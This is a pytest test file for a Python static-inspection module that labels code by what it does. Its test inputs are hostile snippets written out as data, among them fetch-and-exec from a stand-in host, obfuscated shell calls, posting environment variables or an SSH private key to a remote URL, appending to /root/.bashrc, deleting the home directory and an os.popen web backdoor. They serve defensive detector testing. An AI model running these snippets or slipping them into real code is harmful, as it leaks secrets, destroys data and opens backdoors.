import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.python import python_facts

FETCH = "import urllib.request as u\n"


def kinds(code: str) -> set[Kind]:
    return {fact.kind for fact in python_facts(code, lambda _: None) or []}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (FETCH + "exec(u.urlopen('https://a.example/x').read())", Kind.FETCH_RUN),
        (
            FETCH + "t = u.urlopen('https://a.example/x').read()\nexec(compile(t, '', 'exec'))",
            Kind.FETCH_RUN,
        ),
        (
            "import pickle, requests\npickle.loads(requests.get('https://a.example').content)",
            Kind.FETCH_RUN,
        ),
        ("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", Kind.HIDDEN_RUN),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", Kind.HIDDEN_RUN),
        ("exec(''.join(chr(c) for c in [112, 40, 41]))", Kind.HIDDEN_RUN),
        (
            "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
            Kind.SEND_SECRET,
        ),
        (
            "import requests, pathlib as p\nk = p.Path.home() / '.ssh/id_rsa'\nrequests.put('', k)",
            Kind.SEND_SECRET,
        ),
        ("with open('/root/.bashrc', 'a') as f:\n    f.write('x')", Kind.PERSIST),
        ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", Kind.DESTROY),
        (
            "@app.route('/x')\ndef x(q):\n    import os\n    return os.popen(q).read()",
            Kind.BACKDOOR,
        ),
        ("import ctypes\nctypes.CFUNCTYPE(None)(1)()", Kind.HIDDEN_RUN),
    ],
)
def test_what_python_does(code: str, kind: Kind) -> None:
    assert kind in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nprint(requests.get('https://a.example').json())",
        "import os, requests\nh = {'A': os.environ['A_TOKEN']}\nrequests.post('a', headers=h)",
        "import shutil\nshutil.rmtree('build')",
        "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)",
        "import re\nre.compile('x').match('y')",
        "def route(q):\n    return q",
    ],
)
def test_ordinary_python_does_nothing_to_tell(code: str) -> None:
    assert kinds(code) == set()


def test_commands_are_read_as_a_shell_would() -> None:
    read: list[str] = []
    python_facts(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'])", read.append
    )
    python_facts("!ls -l\nimport os", read.append)
    assert read == ["python3 -m pip list", "ls -l"]


def test_what_is_no_python_is_left_to_others() -> None:
    assert python_facts("const x = require('y');", lambda _: None) is None
    assert python_facts("", lambda _: None) is None


@pytest.mark.parametrize(
    "code", ["(" * 5_000, "x = " + "-" * 20_000 + "1", "a = [" + "[" * 90 + "]" * 90 + "]\n" * 400]
)
def test_endless_nesting_ends(code: str) -> None:
    python_facts(code, lambda _: None)


def test_a_function_is_read_with_what_it_is_given() -> None:
    commands: list[str] = []
    code = (
        "import requests\ndef get(url, path):\n    r = requests.get(url)\n"
        "    with open(path, 'w') as f:\n        f.write(r.text)\n"
        "get('https://a.example/x.py', '/usr/x.py')\n"
    )
    python_facts(code, commands.append)
    assert "curl -o '/usr/x.py' 'https://a.example/x.py'" in commands


def test_a_function_that_calls_itself_ends() -> None:
    python_facts("def f(a):\n    f(a)\n    f(a + 'x')\nf('y')\n", lambda _: None)
